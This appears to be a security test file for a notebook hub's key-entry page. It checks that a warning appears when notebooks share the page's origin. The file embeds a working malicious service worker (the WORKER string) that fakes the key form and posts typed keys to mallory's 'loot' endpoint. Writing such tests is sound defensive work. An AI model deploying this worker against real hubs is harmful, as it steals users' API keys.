"""A service worker from a notebook server, on a hub where notebooks and the page for keys share an origin."""

from __future__ import annotations

from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from typing import Any

import pytest
from aiohttp import web
from aiohttp.test_utils import TestServer

from tests.canaries import make_canary
from tests.gateway.browsing import Browser
from tests.gateway.conftest import make_stage
from tests.gateway.stage import PREFIX, Stage
from tests.gateway.test_browser import chromium

__all__ = ["chromium", "make_stage"]

pytestmark = [pytest.mark.anyio, pytest.mark.slow]

WORKER = """
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", event => event.waitUntil(self.clients.claim()));
self.addEventListener("fetch", event => {
  if (!event.request.url.includes("/keys/")) return;
  const form = `<h1>Enter a key</h1><form method=post><label>Key<input name=key></label><button>Test and store</button></form>`;
  const page = () => new Response(form, {headers: {"Content-Type": "text/html"}});
  event.respondWith(event.request.method === "GET" ? page()
    : event.request.text().then(text => fetch("/user/mallory/loot", {method: "POST", body: text})).then(page));
});
"""
PAGE = """<script>
navigator.serviceWorker.register("/user/mallory/worker.js", {scope: "/"})
  .then(() => navigator.serviceWorker.ready).then(() => { document.title = "ready"; });
</script>"""
SAID = "This hub’s notebooks have the same address as this page."


class Hub:
    """What a hub's proxy makes of one address: mallory's server, and the gateway beside it, if at all."""

    def __init__(self, stage: Stage, *, shared: bool) -> None:
        self.loot: list[str] = []
        self._stage = stage
        app = web.Application()
        app.router.add_get("/user/mallory/", self._page)
        app.router.add_get("/user/mallory/worker.js", self._worker)
        app.router.add_post("/user/mallory/loot", self._catch)
        if shared:
            app.router.add_get(PREFIX + "{path:.*}", self._gateway)
        self.server = TestServer(app)

    @property
    def origin(self) -> str:
        return str(self.server.make_url("")).rstrip("/")

    async def _page(self, request: web.Request) -> web.Response:
        return web.Response(text=PAGE, content_type="text/html")

    async def _worker(self, request: web.Request) -> web.Response:
        headers = {"Service-Worker-Allowed": "/"}
        return web.Response(text=WORKER, content_type="text/javascript", headers=headers)

    async def _catch(self, request: web.Request) -> web.Response:
        self.loot.append(await request.text())
        return web.Response()

    async def _gateway(self, request: web.Request) -> web.Response:
        url = self._stage.origin + request.rel_url.raw_path_qs
        headers = {name: value for name, value in request.headers.items() if name != "Host"}
        async with self._stage.http.get(url, headers=headers) as response:
            kept = {
                name: value
                for name, value in response.headers.items()
                if name not in {"Content-Length", "Transfer-Encoding"}
            }
            body = await response.read()
            return web.Response(body=body, status=response.status, headers=kept)


@asynccontextmanager
async def running(stage: Stage, *, shared: bool) -> AsyncIterator[Hub]:
    hub = Hub(stage, shared=shared)
    await hub.server.start_server()
    yield hub
    await hub.server.close()


async def visit(stage: Stage, chromium: Any, hub: Hub, origin: str) -> tuple[Any, str]:
    """Sign ada in at an origin, and let her look at mallory's page; return her window, and the address for a key."""
    ada = await Browser.sign_in(stage, "ada")
    context = await chromium.new_context()
    context.set_default_timeout(15_000)
    await context.add_cookies(
        [{"name": name, "value": value, "url": origin} for name, value in ada.cookies.items()]
    )
    page = await context.new_page()
    where = (await stage.ask("GET", "api/v1/me", stage.token("ada")))[1]["workspaces"][0]["id"]
    address = f"{origin}{PREFIX}workspaces/{where}/keys/openai"
    await page.goto(address)
    return page, address


async def register(page: Any, hub: Hub) -> None:
    await page.goto(f"{hub.origin}/user/mallory/")
    await page.wait_for_function("document.title === 'ready'")


async def test_a109_control_worker_of_a_notebook_server_catches_a_key_that_is_typed(
    make_stage: Callable[..., Any], chromium: Any
) -> None:
    """What the page warns of is so: the worker answers at its address, and the gateway sees nothing."""
    stage, key = await make_stage(), make_canary("openai")
    async with running(stage, shared=True) as hub:
        page, address = await visit(stage, chromium, hub, hub.origin)
        said = await page.inner_text("main")
        await register(page, hub)
        await page.goto(address)
        await page.get_by_label("Key").fill(key)
        await page.get_by_role("button", name="Test and store").click()
        await page.wait_for_load_state()

        assert SAID in said
        assert "assay-nb-operator keys set openai -w" in said
        assert [key in one for one in hub.loot] == [True]


async def test_a109_worker_of_another_origin_catches_nothing(
    make_stage: Callable[..., Any], chromium: Any
) -> None:
    """With hosts of their own, the same worker never sees the gateway's page, which then has nothing to warn of."""
    stage = await make_stage(hub={"subdomains": True, "public_url": "http://hub.localhost"})
    async with running(stage, shared=False) as hub:
        page, address = await visit(stage, chromium, hub, stage.origin)
        await register(page, hub)
        await page.goto(address)
        said = await page.inner_text("main")

        assert SAID not in said
        assert "It goes from this page to the gateway" in said
        assert hub.loot == []
